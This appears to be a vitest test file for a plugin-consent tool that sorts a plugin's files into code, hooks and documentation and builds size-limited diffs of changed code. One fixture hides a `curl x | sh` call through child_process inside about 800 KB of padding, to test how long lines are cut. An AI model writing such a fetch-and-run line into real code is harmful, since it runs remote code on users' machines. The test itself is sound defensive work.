import { describe, expect, it } from 'vitest';
import {
  CODE_DIFF_LIMITS,
  codeUnchanged,
  describeCodeChanges,
} from '../../src/plugin/code-diff.js';
import {
  assignRoles,
  changedCodeFiles,
  type PluginFile,
  type RoleInput,
} from '../../src/plugin/code-files.js';

const file = (path: string, over: Partial<PluginFile> = {}): PluginFile => ({
  path,
  kind: 'file',
  sha256: 'a'.repeat(64),
  mode: 0o644,
  ...over,
});

const INPUT: RoleInput = {
  manifestFile: '.claude-plugin/plugin.json',
  documentSources: ['hooks/hooks.json', './extra/hooks.json', 'plugin.json#hooks'],
  handlerText: ['sh "${CLAUDE_PLUGIN_ROOT}/scripts/run.sh"', '${CLAUDE_PLUGIN_ROOT}/docs/rules.md'],
};

const roles = (...paths: Array<string | PluginFile>) =>
  assignRoles(
    paths.map((p) => (typeof p === 'string' ? file(p) : p)),
    INPUT,
  ).map((f) => [f.path, f.role]);

describe('which files of a plugin run (docs/guides/installing-plugins.md#consent)', () => {
  it('the manifest and the hooks documents are compared through the surface (role hooks)', () => {
    expect(roles('.claude-plugin/plugin.json', 'hooks/hooks.json', 'extra/hooks.json')).toEqual([
      ['.claude-plugin/plugin.json', 'hooks'],
      ['hooks/hooks.json', 'hooks'],
      ['extra/hooks.json', 'hooks'],
    ]);
  });

  it('documentation is not compared: Markdown, reST, AsciiDoc, images, README, LICENSE, CHANGELOG and their kin', () => {
    const docs = [
      'README.md',
      'docs/guide.markdown',
      'docs/api.rst',
      'docs/x.adoc',
      'img/logo.png',
      'img/shot.jpeg',
      'icon.svg',
      'LICENSE',
      'LICENSE-MIT',
      'licence.txt',
      'COPYING',
      'NOTICE',
      'AUTHORS',
      'CHANGELOG',
      'changes.md',
      'HISTORY.rst',
      'README',
    ];
    expect(roles(...docs).filter(([, role]) => role !== 'docs')).toEqual([]);
  });

  it('everything else is code: scripts, data a script may read, package.json, a second plugin.json, .mdx, .txt', () => {
    const code = [
      'scripts/run.sh',
      'lib/rules.json',
      'rules.txt',
      'package.json',
      'plugin.json',
      'page.mdx',
      'changes.js',
      'license-mit.js',
      'Makefile',
      'bin/tool',
    ];
    expect(roles(...code).filter(([, role]) => role !== 'code')).toEqual([]);
  });

  it('a documentation file that is executable, or that a handler names, is code', () => {
    expect(roles(file('README.md', { mode: 0o755 }), 'docs/rules.md', 'docs/other.md')).toEqual([
      ['README.md', 'code'],
      ['docs/rules.md', 'code'],
      ['docs/other.md', 'docs'],
    ]);
  });

  it('a documentation file a handler names by its name alone is code: the command cds to its folder, or spells the path apart', () => {
    const handlerText = [
      'cd "$CLAUDE_PLUGIN_ROOT/docs" && sh run.md',
      'sh "${CLAUDE_PLUGIN_ROOT}"/notes//EXTRA.MD',
      'node -e 1 ñ/hook.md.',
    ];
    const named = assignRoles(
      ['docs/run.md', 'notes/extra.md', 'docs/hook.md', 'docs/other.md'].map((p) => file(p)),
      { ...INPUT, handlerText },
    );
    expect(named.map((f) => [f.path, f.role])).toEqual([
      ['docs/run.md', 'code'],
      ['notes/extra.md', 'code'],
      ['docs/hook.md', 'code'],
      ['docs/other.md', 'docs'],
    ]);
  });

  it('a symlink or a special file is code', () => {
    expect(roles(file('NOTES.md', { kind: 'symlink', mode: 0 }))).toEqual([['NOTES.md', 'code']]);
  });
});

describe('changedCodeFiles and describeCodeChanges', () => {
  const before = assignRoles(
    [
      file('README.md'),
      file('scripts/run.sh', { mode: 0o755 }),
      file('scripts/old.sh'),
      file('tool.bin', { sha256: 'c'.repeat(64) }),
    ],
    INPUT,
  );
  const after = assignRoles(
    [
      file('README.md', { sha256: 'f'.repeat(64) }),
      file('scripts/run.sh', { sha256: 'b'.repeat(64), mode: 0o755 }),
      file('scripts/new.sh'),
      file('tool.bin', { sha256: 'c'.repeat(64), mode: 0o755 }),
    ],
    INPUT,
  );

  it('code files added, removed, changed in content or mode; documentation left out; sorted by path', () => {
    expect(changedCodeFiles(before, after).map((c) => [c.path, c.status])).toEqual([
      ['scripts/new.sh', 'added'],
      ['scripts/old.sh', 'removed'],
      ['scripts/run.sh', 'changed'],
      ['tool.bin', 'changed'],
    ]);
  });

  it('text gets counts and a diff, binary and large files neither, a mode change no lines', () => {
    const changes = changedCodeFiles(before, after);
    const bytes = (text: string) => new TextEncoder().encode(text);
    const diff = describeCodeChanges(
      changes,
      new Map([
        ['scripts/new.sh', { before: null, after: bytes('a\nb\n') }],
        ['scripts/old.sh', { before: 'too-large', after: null }],
        ['scripts/run.sh', { before: bytes('x\n'), after: new Uint8Array([0x78, 0, 0x0a]) }],
      ]),
    );
    expect(diff.files.map((f) => [f.path, f.content, f.linesAdded, f.linesRemoved])).toEqual([
      ['scripts/new.sh', 'text', 2, 0],
      ['scripts/old.sh', 'too-large', null, null],
      ['scripts/run.sh', 'binary', null, null],
      ['tool.bin', 'text', 0, 0],
    ]);
    expect(diff.files[0]!.diff).toEqual(['@@ -0,0 +1,2 @@', '+a', '+b']);
    expect(diff.files[3]).toMatchObject({ before: { mode: 0o644 }, after: { mode: 0o755 } });
    expect(codeUnchanged(diff)).toBe(false);
    expect(codeUnchanged({ baseline: 'same', files: [], truncated: false })).toBe(true);
    expect(codeUnchanged({ baseline: 'unreadable', files: [], truncated: false })).toBe(false);
    expect(codeUnchanged(null)).toBe(false);
  });

  it('bounded in total: past linesTotal no file gets more lines, and the diff says it was cut', () => {
    const many = Array.from(
      { length: 20 },
      (_, i) => assignRoles([file(`s${String(i).padStart(2, '0')}.sh`)], INPUT)[0]!,
    );
    const changes = changedCodeFiles([], many);
    const text = new TextEncoder().encode('x\n'.repeat(100));
    const diff = describeCodeChanges(
      changes,
      new Map(changes.map((c) => [c.path, { before: null, after: text }])),
    );
    const shown = diff.files.reduce((n, f) => n + f.diff.length, 0);
    expect(shown).toBe(CODE_DIFF_LIMITS.linesTotal);
    expect(diff.truncated).toBe(true);
    expect(diff.files.every((f) => f.linesAdded === 100)).toBe(true);
  });

  it('bounded per line: a one-line file of most of a megabyte shows a cut line saying how much was left out', () => {
    const [changed] = changedCodeFiles(
      assignRoles([file('x.js')], INPUT),
      assignRoles([file('x.js', { sha256: 'b'.repeat(64) })], INPUT),
    );
    const line = (middle: string) =>
      `${'var a=1;'.repeat(50_000)}${middle}${'var a=1;'.repeat(50_000)}`;
    const bytes = (text: string) => new TextEncoder().encode(`${text}\n`);
    const before = line('');
    const after = line('require("child_process").execSync("curl x | sh");');
    const diff = describeCodeChanges(
      [changed!],
      new Map([['x.js', { before: bytes(before), after: bytes(after) }]]),
    );
    const limit = CODE_DIFF_LIMITS.charsPerLine;
    expect(diff.files[0]).toMatchObject({ linesAdded: 1, linesRemoved: 1 });
    expect(diff.files[0]!.diff).toEqual([
      '@@ -1 +1 @@',
      `-${before.slice(0, limit - 1)} ... (${before.length + 1 - limit} more characters)`,
      `+${after.slice(0, limit - 1)} ... (${after.length + 1 - limit} more characters)`,
    ]);
    const pair = describeCodeChanges(
      [changed!],
      new Map([
        ['x.js', { before: bytes('x'), after: bytes(`${'a'.repeat(limit - 2)}\u{1f389}b`) }],
      ]),
    );
    expect(pair.files[0]!.diff[2]).toBe(`+${'a'.repeat(limit - 2)} ... (3 more characters)`);
  });
});
